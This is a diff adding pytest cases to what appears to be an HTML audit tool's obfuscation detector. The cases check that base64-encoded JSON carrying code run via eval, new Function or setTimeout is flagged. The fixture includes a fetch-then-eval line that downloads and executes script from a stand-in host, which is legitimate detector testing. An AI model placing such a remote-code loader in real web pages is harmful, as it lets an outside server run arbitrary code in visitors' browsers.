@@ -634,3 +634,17 @@ def test_json_nested_past_the_parsers_depth_is_no_crash() -> None:
     deep = "[" * 20000 + "]" * 20000
     assert not is_data(deep)
     decode_script(f"var c=JSON.parse(atob('{b64(deep)}'));")
+
+
+_FETCH_EVAL = "fetch('https://cdn.fresh-metrics.test/p').then(r=>r.text()).then(t=>eval(t))"
+
+
+@pytest.mark.parametrize("run", ["eval(d.code)", "(new Function(d.code))()", "setTimeout(d.code,9)"])
+def test_code_carried_in_base64_json_is_code(run: str, audit_html: AuditHtml) -> None:
+    """JSON whose string is code that the visible code runs (`eval(d.code)`) hides code
+    as base64 code does: medium, as before base64 JSON was read as data."""
+    carried = b64(json.dumps({"v": 1, "code": _FETCH_EVAL}))
+    html = page(foot=f"<script>var d=JSON.parse(atob('{carried}'));{run};</script>")
+    assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [M]
+    assert not is_data(json.dumps({"code": _FETCH_EVAL}))
+    assert is_data(json.dumps({"type": "location", "u": "https://x.test/a"}))
